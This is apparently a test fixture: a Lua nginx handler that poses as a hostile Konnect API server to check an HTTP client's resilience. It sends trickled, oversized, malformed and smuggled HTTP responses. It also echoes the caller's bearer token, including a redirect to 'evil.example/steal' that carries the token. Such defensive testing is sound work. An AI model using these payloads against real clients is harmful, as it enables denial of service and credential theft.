-- spec/hostile/server.lua: a Konnect stand-in that misbehaves on purpose.
-- Runs inside the suite's nginx (spec/hostile/nginx.conf.in): the case is the
-- first path segment after /c/ (a client's server_url is http://host:port/c/<case>),
-- and the answer is written byte for byte on the raw request socket.
--   /stash/<id>  (POST)  keeps a raw response (the fuzz sample);  /raw/<id>/…  serves it
local ngx = ngx
local cases = require "cases"

local M = {}

local CRLF = "\r\n"
local TOKEN_ID = "00000000-0000-4000-8000-00000000c0de"
local stash = {} -- id -> raw response (one worker)

local function b64(s) return ngx.encode_base64(s) end

local function token_json(name)
  return '{"id":"' .. TOKEN_ID .. '","name":' .. name .. ',"created_at":"2024-01-15T09:30:00Z",'
    .. '"updated_at":"2024-01-15T09:30:00Z","expires_at":"2030-01-15T09:30:00Z","state":"ACTIVE"}'
end
local LIST_OK = '{"data":[' .. token_json('"ok"') .. '],"meta":{"page":{"total":1}}}'

local function head(status, headers, body)
  local t = { "HTTP/1.1 " .. status .. CRLF }
  for _, h in ipairs(headers or {}) do t[#t + 1] = h .. CRLF end
  if body then t[#t + 1] = "Content-Length: " .. #body .. CRLF end
  t[#t + 1] = CRLF
  if body then t[#t + 1] = body end
  return table.concat(t)
end

local function json(status, body, ctype, extra)
  local h = { "Content-Type: " .. (ctype or "application/json") }
  for _, x in ipairs(extra or {}) do h[#h + 1] = x end
  return head(status, h, body)
end

local function problem(status, fields, extra)
  return json(status, fields, "application/problem+json", extra)
end

-- JSON string escaping of s with every character as \uXXXX
local function u_escape(s)
  return (s:gsub(".", function(c) return string.format("\\u%04x", c:byte()) end))
end

local function pct(s)
  return (s:gsub("[^%w]", function(c) return string.format("%%%02X", c:byte()) end))
end

-- sends a string repeatedly (n times, or until the peer is gone)
local function flood(sock, piece, n)
  for _ = 1, n do
    if not sock:send(piece) then return end
  end
end

-- (12 s at most: far past every deadline, short enough that a broken client does not stall the run)
local function trickle(sock, piece, seconds)
  for i = 1, seconds do
    if not sock:send(piece:sub((i - 1) % #piece + 1, (i - 1) % #piece + 1)) then return end
    ngx.sleep(1)
  end
end

local BEHAVIOUR = {}
local B = BEHAVIOUR

B.trickle_status = function(s) trickle(s, "HTTP/1.1 200 OK\r\n", 12) end
B.trickle_headers = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
  trickle(s, "X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 12)
end
B.trickle_body = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4096\r\n\r\n")
  trickle(s, LIST_OK, 12)
end
B.trickle_chunks = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
  for _ = 1, 12 do
    if not s:send("1\r\n \r\n") then return end
    ngx.sleep(1)
  end
end
B.silent = function() ngx.sleep(12) end

-- a case that sends `first`, then `piece` n times (or until the peer is gone), then `tail` if any
local function flooding(first, piece, n, tail)
  return function(s)
    s:send(first)
    flood(s, piece, n)
    if tail then s:send(tail) end
  end
end
local CHUNKED = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
local HEADER_BLOCK = {} -- 1000 short header lines
for i = 1, 1000 do HEADER_BLOCK[i] = "X-H" .. i .. ": v\r\n" end

B.endless_header_line = flooding("HTTP/1.1 200 OK\r\nX-Big: ", string.rep("a", 65536), 8192) -- up to 512 MiB
B.header_line_256m = flooding("HTTP/1.1 200 OK\r\nX-Big: ", string.rep("a", 65536), 4096,
  "\r\nContent-Length: 2\r\n\r\n{}")
B.many_headers = flooding("HTTP/1.1 200 OK\r\n", table.concat(HEADER_BLOCK), 200, "Content-Length: 2\r\n\r\n{}")
-- a head of exactly `size` bytes (status line to the blank line), sent in two writes
-- a moment apart, so that it spans reads; then the list
-- a head of `size` bytes in two writes (40,000 bytes, then the rest with the body), or
-- whole in one write and the body after a pause (`one_write`)
local function head_of_size(size, one_write)
  return function(s)
    local start = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " .. #LIST_OK
      .. "\r\nX-Pad: "
    local block = start .. string.rep("p", size - #start - 4) .. "\r\n\r\n"
    assert(#block == size)
    if one_write then
      s:send(block)
      ngx.sleep(0.05)
      return s:send(LIST_OK)
    end
    s:send(block:sub(1, 40000))
    ngx.sleep(0.05)
    s:send(block:sub(40001) .. LIST_OK)
  end
end
B.head_64k_exactly = head_of_size(65536)
B.head_64k_one_write = head_of_size(65536, true)
B.head_64k_and_1 = head_of_size(65537)
B.head_64k_then_close = function(s)
  local start = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Pad: "
  local block = start .. string.rep("p", 65536 - #start - 2) .. "\r\n"
  assert(#block == 65536)
  s:send(block:sub(1, 40000))
  ngx.sleep(0.05)
  s:send(block:sub(40001))
end
B.status_line_1m = flooding("HTTP/1.1 200 ", string.rep("O", 65536), 16, "\r\nContent-Length: 2\r\n\r\n{}")

B.content_length_2g = flooding(
  "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2147483648\r\n\r\n", string.rep(" ", 65536), 64)
B.endless_chunked = flooding(CHUNKED, "10000\r\n" .. string.rep(" ", 65536) .. "\r\n", 4096)
B.chunk_size_huge = function(s)
  s:send(CHUNKED)
  s:send("7FFFFFFFFFFF\r\n")
  flood(s, string.rep(" ", 65536), 64)
end

B.chunk_size_not_hex = function(s) s:send(CHUNKED .. "zz\r\n{}\r\n0\r\n\r\n") end
B.chunk_missing_crlf = function(s) s:send(CHUNKED .. "2\r\n{}XX0\r\n\r\n") end
B.chunk_line_endless = flooding(CHUNKED .. "2;ext=", string.rep("e", 65536), 16)
B.chunk_truncated = function(s) s:send(CHUNKED .. "100\r\n{\"data\":[") end

B.two_content_lengths = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n"
    .. '{}                                      ')
end
-- Content-Length as a list (RFC 9110 8.6: a list of one repeated value is that value)
local function cl_list(value)
  return function(s)
    s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " .. value:format(#LIST_OK, #LIST_OK)
      .. "\r\n\r\n" .. LIST_OK)
  end
end
B.cl_list_repeated = cl_list(" %d ,\t%d ")
B.cl_list_empty_element = cl_list("%d,")
B.cl_list_differing = cl_list("%d, 1%d")
-- two values of the same length that differ (the length alone cannot tell them apart)
B.cl_list_differing_same_length = function(s)
  local n = #LIST_OK
  local other = n % 10 == 9 and n - 1 or n + 1
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " .. n .. ", " .. other
    .. "\r\n\r\n" .. LIST_OK)
end
-- conflicting Content-Lengths, then a line that looks like a status line inside the head:
-- not a new header block (only a head's first line is its status line), so the conflict stands
B.cl_conflict_then_status_line = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n"
    .. "HTTP/1.1 100 Continue\r\n\r\n" .. '{}                                      ')
end
-- obsolete line folding (RFC 9112 5.2): a continuation of the field before it, or one with none before
B.fold_continues_field = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Folded: a\r\n b\r\n\tc\r\nContent-Length: "
    .. #LIST_OK .. "\r\n\r\n" .. LIST_OK)
end
B.fold_before_any_field = function(s)
  s:send("HTTP/1.1 200 OK\r\n Content-Type: application/json\r\nContent-Length: " .. #LIST_OK .. "\r\n\r\n"
    .. LIST_OK)
end
-- a chunk size written with leading zeros to 8 hex digits (RFC 9112 7.1: chunk-size = 1*HEXDIG)
B.chunk_size_leading_zeros = function(s)
  s:send(CHUNKED .. string.format("%08x", #LIST_OK) .. "\r\n" .. LIST_OK .. "\r\n0\r\n\r\n")
end
B.cl_and_chunked = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 5\r\n"
    .. "Transfer-Encoding: chunked\r\n\r\n" .. string.format("%x", #LIST_OK) .. "\r\n" .. LIST_OK .. "\r\n0\r\n\r\n")
end
-- The first call: 200 with Content-Length 2 ("{}") and a second complete response
-- right behind it, in one write; then, should the client send another request on
-- this connection (it kept it), the answer says so.  The next call, for
-- cases.NEXT_USER, on a new connection: the real answer (a token named "ok").
B.excess_after_body = function(s)
  if ngx.var.uri:find(cases.NEXT_USER, 1, true) then return s:send(json(200, LIST_OK)) end
  local list = '{"data":[' .. token_json('"%s"') .. '],"meta":{"page":{"total":1}}}'
  s:send(json(200, "{}") .. json(200, list:format("smuggled")))
  s:settimeout(3000)
  if s:receiveuntil("\r\n\r\n")() then s:send(json(200, list:format("reused_connection"))) end
end
-- a chunked body, then trailer fields without end: 1000 short lines at a time, 200 times (2.4 MB)
B.many_trailers = flooding(CHUNKED .. string.format("%x", #LIST_OK) .. "\r\n" .. LIST_OK .. "\r\n0\r\n",
  table.concat(HEADER_BLOCK), 200, "\r\n")
B.chunked_lf_only = function(s)
  s:send(CHUNKED .. string.format("%x", #LIST_OK) .. "\n" .. LIST_OK .. "\r\n0\n\r\n")
end
B.chunk_over_many_reads = function(s)
  local body = LIST_OK:sub(1, -2) .. string.rep(" ", 40000) .. "}" -- JSON white space: the same list
  s:send(CHUNKED .. string.format("%x", #body) .. "\r\n" .. body .. "\r\n0\r\n\r\n")
end
B.chunk_size_white_space = function(s)
  local a, b = LIST_OK:sub(1, 20), LIST_OK:sub(21)
  s:send(CHUNKED .. string.format("%x \t;ext=1", #a) .. "\r\n" .. a .. "\r\n" .. string.format("%x\t ", #b) .. "\r\n"
    .. b .. "\r\n0\t \r\n\r\n")
end
B.chunk_size_missing = function(s)
  s:send(CHUNKED .. string.format("%x", #LIST_OK) .. "\r\n" .. LIST_OK .. "\r\n ;ext\r\n0\r\n\r\n")
end
B.chunk_cr_without_lf = function(s)
  s:send(CHUNKED .. string.format("%x", #LIST_OK) .. "\r\n" .. LIST_OK .. "\rX0\r\n\r\n")
end
B.cl_last_byte_late = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " .. #LIST_OK .. "\r\n\r\n"
    .. LIST_OK:sub(1, -2))
  ngx.sleep(0.05)
  s:send(LIST_OK:sub(-1))
end
B.chunk_last_byte_late = function(s)
  s:send(CHUNKED .. string.format("%x", #LIST_OK) .. "\r\n" .. LIST_OK:sub(1, -2))
  ngx.sleep(0.05)
  s:send(LIST_OK:sub(-1) .. "\r\n0\r\n\r\n")
end
B.early_close_headers = function(s) s:send("HTTP/1.1 200 OK\r\nContent-Type: appl") end
B.early_close_body = function(s)
  s:send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"data\":[")
end
B.empty_reply = function() end
B.reset = function() end -- the case is sent to rst_server.lua (a real RST); here it is a plain close
B.bad_status_line = function(s) s:send("HTTP/1.1 abc\r\nContent-Length: 2\r\n\r\n{}") end
B.http09 = function(s) s:send(LIST_OK) end
B.status_code_run_on = function(s)
  s:send("HTTP/1.1 200X OK\r\nContent-Type: application/json\r\nContent-Length: " .. #LIST_OK .. "\r\n\r\n" .. LIST_OK)
end

B.storm_1xx_then_200 = function(s)
  flood(s, "HTTP/1.1 100 Continue\r\n\r\n", 2000)
  s:send(json(200, LIST_OK))
end
B.storm_1xx_endless = function(s)
  local piece = string.rep("HTTP/1.1 100 Continue\r\n\r\n", 1000)
  for _ = 1, 2000 do
    if not s:send(piece) then return end
    ngx.sleep(0.01)
  end
end

-- echoes: `auth` is the request's Authorization header, `tok` the token in it
B.echo_location = function(s, auth, tok)
  s:send(head(302, { "Location: https://evil.example/steal?t=" .. tok .. "&h=" .. pct(auth) }, ""))
end
B.echo_request_id = function(s, _, tok)
  s:send(problem(500, '{"title":"boom","status":500}', { "X-Kong-Request-Id: " .. tok }))
end
B.echo_header = function(s, auth)
  s:send(head(503, { "X-Echo: " .. auth, "Content-Type: text/plain" }, "unavailable"))
end
B.echo_html_body = function(s, auth, tok)
  s:send(head(502, { "Content-Type: text/html" },
    "<html><body>Bad gateway for " .. auth .. " (" .. tok .. ")</body></html>"))
end
B.echo_problem = function(s, auth, tok)
  s:send(problem(401, '{"status":401,"title":"Unauthorized ' .. tok .. '","detail":"bad credential: '
    .. auth .. '","instance":"kong:trace:' .. tok .. '","type":"https://x/' .. tok .. '"}'))
end
B.echo_invalid_parameters = function(s, _, tok)
  s:send(problem(400, '{"status":400,"title":"Bad Request","invalid_parameters":[{"field":"name","rule":"'
    .. tok .. '","reason":"the name ' .. tok .. ' is taken","source":"body"}]}'))
end
B.echo_encoded = function(s, auth, tok)
  s:send(problem(403, '{"status":403,"title":"Forbidden","detail":"b64 ' .. b64(tok) .. " b64auth " .. b64(auth)
    .. " pct " .. pct(auth) .. " u " .. u_escape(tok) .. '"}'))
end
B.echo_base64_header = function(s, auth)
  s:send(problem(500, '{"status":500,"title":"x"}', { "X-Auth: " .. b64(auth), "X-Kong-Request-Id: " .. b64(auth) }))
end
B.echo_decode_error = function(s, auth)
  s:send(json(200, "you sent " .. auth, "text/plain"))
end
B.echo_in_value = function(s, _, tok)
  s:send(json(200, '{"data":[' .. token_json('"' .. tok .. '"') .. '],"meta":{"page":{"total":1}}}'))
end

B.list_data_object = function(s) s:send(json(200, '{"data":' .. token_json('"x"') .. ',"meta":{}}')) end
B.list_data_numbers = function(s) s:send(json(200, '{"data":[1,2,3],"meta":{}}')) end
B.list_not_object = function(s) s:send(json(200, '[1,2,3]')) end
B.find_data_object = B.list_data_object
B.find_data_strings = function(s) s:send(json(200, '{"data":["a","b"],"meta":{}}')) end
B.invalid_parameters_object = function(s)
  s:send(problem(400, '{"status":400,"title":"Bad Request","invalid_parameters":{"field":"name","reason":"x"}}'))
end
B.problem_numbers = function(s)
  s:send(problem(400, '{"status":"400","title":1,"detail":{},"instance":42,"type":true,'
    .. '"invalid_parameters":[1,"two",{"field":3,"reason":[]}]}'))
end
B.deep_nesting_200 = function(s) s:send(json(200, string.rep("[", 100000))) end
B.deep_nesting_500 = function(s) s:send(problem(500, string.rep('{"a":', 100000))) end
B.json_null_body = function(s) s:send(json(200, "null")) end
B.invalid_utf8 = function(s) s:send(json(200, '{"data":[{"id":"\255\254","name":"\192\128"}],"meta":{}}')) end

B.retry_after_1900 = function(s)
  s:send(json(429, '{"message":"slow down"}', nil, { "Retry-After: Mon, 01 Jan 1900 00:00:00 GMT" }))
end
B.retry_after_garbage = function(s)
  s:send(json(429, '{"message":"slow down"}', nil, { "Retry-After: soon, \1\2 maybe" }))
end
B.retry_after_huge = function(s)
  s:send(json(429, '{"message":"slow down"}', nil, { "Retry-After: 99999999999999999999" }))
end
B.retry_after_negative = function(s)
  s:send(json(429, '{"message":"slow down"}', nil, { "Retry-After: -5" }))
end

for _, c in ipairs(cases.cases) do
  assert(BEHAVIOUR[c.name], "spec/hostile/server.lua: no behaviour for case " .. c.name)
end

function M.put(id, raw) stash[id] = raw end

function M.handle()
  local uri = ngx.var.uri
  local id = uri:match("^/stash/([%w_-]+)$")
  if id then
    ngx.req.read_body()
    stash[id] = ngx.req.get_body_data() or ""
    return ngx.say("ok")
  end
  local auth = ngx.var.http_authorization or ""
  local tok = auth:match("^Bearer (.*)$") or auth
  id = uri:match("^/raw/([%w_-]+)/")
  local name = uri:match("^/c/([%w_]+)/")
  local what = id and stash[id] or BEHAVIOUR[name or ""]
  if not what then return ngx.exit(404) end
  if ngx.var.request_method ~= "GET" then ngx.req.read_body() end
  local sock, err = ngx.req.socket(true)
  if not sock then
    ngx.log(ngx.ERR, "hostile: no raw socket: ", err)
    return ngx.exit(500)
  end
  sock:settimeout(120000)
  if type(what) == "string" then
    sock:send(what)
    stash[id] = nil
  else
    what(sock, auth, tok)
  end
  return ngx.exit(444)
end

return M
